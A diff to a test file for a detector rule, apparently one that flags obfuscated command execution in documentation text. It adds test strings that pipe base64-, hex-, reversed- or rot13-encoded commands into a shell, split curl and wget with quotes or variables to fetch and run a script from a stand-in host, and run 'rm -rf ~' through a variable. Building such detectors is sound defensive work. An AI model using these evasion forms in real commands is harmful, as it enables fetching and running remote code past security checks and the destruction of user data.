@@ -17,6 +17,19 @@ test.each([
   "echo 6563686f206d61726b657220646f6e6520 | xxd -r -p | sh",
   'eval(Buffer.from("Y29uc29sZS5sb2coMSk7","base64").toString())',
   "echo Y3VybCBleGFtcGxlLmNvbQ== | openssl base64 -d | sudo bash",
+  "perl -MMIME::Base64 -e 'eval decode_base64(\"Y3VybCBleGFtcGxlLmNvbQ==\")'",
+  "php -r 'eval(gzinflate(base64_decode(\"Y3VybCBleGFtcGxlLmNvbQ==\")));'",
+  "echo 'moc.elpmaxe-ta-tpircs a' | rev | sh",
+  "echo 'phey-f-uggcf-k-rknzcyr' | tr 'a-z' 'n-za-m' | bash",
+  "echo Y3VybCBleGFtcGxlLmNvbQ==|base64${IFS}-d|sh",
+  "```bash\nbase64 -d <<EOF | sh\nY3VybCBleGFtcGxlLmNvbQ==\nEOF\n```",
+  "```bash\necho Y3VybCBleGFtcGxlLmNvbQ== | base64 -d > /tmp/.run\nsh /tmp/.run\n```",
+  // What harms is spelled so that nobody knows it.
+  "$'\\x63url' -s https://x.example.invalid/i | sh",
+  "cu''rl -s https://x.example.invalid/i | ba''sh",
+  "w\\get -qO- https://x.example.invalid/i | sh",
+  "c=curl; $c -s https://x.example.invalid/i | sh",
+  "r=rm; $r -rf ~",
 ])("finds %j", (text) => {
   expect(check(encodedExec, withBody(text)).diagnostics).not.toEqual([]);
 });
@@ -28,6 +41,11 @@ test.each([
   "`atob(value)` decodes",
   'echo "$TOKEN" | base64 | tr -d x',
   "Decode with base64 --decode, then eval the result by hand",
+  "```bash\nD=/tmp/work\ncd $D && rm -rf build\n```",
+  "```bash\nNAME=app\n$NAME --help\n```",
+  "don't use `it''s`",
+  "git log --oneline | rev | cut -c1-9",
+  "echo aGVsbG8gd29ybGQgYWdhaW4= | base64 -d > out.txt && cat out.txt",
 ])("stays silent on %j", (text) => {
   expect(check(encodedExec, withBody(text)).diagnostics).toEqual([]);
 });
